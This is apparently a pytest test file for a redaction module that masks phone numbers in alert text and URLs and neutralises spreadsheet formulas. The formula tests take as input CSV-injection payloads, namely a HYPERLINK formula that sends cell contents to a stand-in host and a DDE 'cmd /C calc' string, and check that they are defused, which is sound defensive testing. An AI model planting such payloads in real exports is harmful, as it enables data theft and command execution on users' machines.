"""The one masking function for phone numbers, and the one neutralising spreadsheet formulas."""

from decimal import Decimal

import pytest

from monusco.redaction import mask_phone_numbers, mask_phone_numbers_in_url, spreadsheet_safe


@pytest.mark.parametrize(
    "text,expected",
    [
        ("Attaque à Sange, rappelez-moi au 0990100001", "Attaque à Sange, rappelez-moi au [phone]"),
        ("+243 812 345 678", "[phone]"),
        ("(+243) 990-100-001 svp", "[phone] svp"),
        ("appelez0990100001.", "appelez[phone]."),
        ("tel:+243812345678, merci", "tel:[phone], merci"),
        ("deux numéros 0990100001 / 0812345678", "deux numéros [phone] / [phone]"),
        # dates, times, small counts, identifiers stay
        ("le 2026-11-23 08:15, 12 345 678 FC", "le 2026-11-23 08:15, 12 345 678 FC"),
        ("depuis le 2026-11-23 0990100001", "depuis le 2026-11-23 [phone]"),
        ("alerte 123e4567-e89b-12d3-a456-426614174000", "alerte 123e4567-e89b-12d3-a456-426614174000"),
        ("gw-1234567890 et x_0990100001", "gw-1234567890 et x_0990100001"),
        ("192.168.100.200 Chrome/120.0.6099.109", "192.168.100.200 Chrome/120.0.6099.109"),
        ("", ""),
    ],
)
def test_mask_phone_numbers(text, expected):
    assert mask_phone_numbers(text) == expected


@pytest.mark.parametrize(
    "value,expected",
    [
        ("/admin/can/alert/?q=%2B243812345678", "/admin/can/alert/?q=[phone]"),
        ("q=%2B243+812+345+678&o=1", "q=[phone]&o=1"),
        ("/x?q=tel%3A0990100001", "/x?q=tel:[phone]"),
        (
            "/accounts/login/?next=/admin/can/alert/%3Fq%3D%252B243812345678",
            "/accounts/login/?next=/admin/can/alert/?q=[phone]",
        ),
        (
            "/accounts/login/?next=%2Fadmin%2Fcan%2Falert%2F%3Fq%3D%252B243%2B812%2B345%2B678",
            "/accounts/login/?next=/admin/can/alert/?q=[phone]",
        ),
        ("/admin/can/alert/?q=Sange+attaque", "/admin/can/alert/?q=Sange+attaque"),  # unchanged, as sent
        ("", ""),
    ],
)
def test_mask_phone_numbers_in_url(value, expected):
    assert mask_phone_numbers_in_url(value) == expected


@pytest.mark.parametrize(
    "value,expected",
    [
        ('=HYPERLINK("http://x.example/?"&A1,"Click")', '\'=HYPERLINK("http://x.example/?"&A1,"Click")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+243 812", "'+243 812"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Attaque =1", "Attaque =1"),
        ("'already", "'already"),
        ("#loc+name", "#loc+name"),
        ("", ""),
        # numbers stay numbers
        (-3.08, -3.08),
        (-12, -12),
        (Decimal("-0.5"), Decimal("-0.5")),
        (None, None),
    ],
)
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected
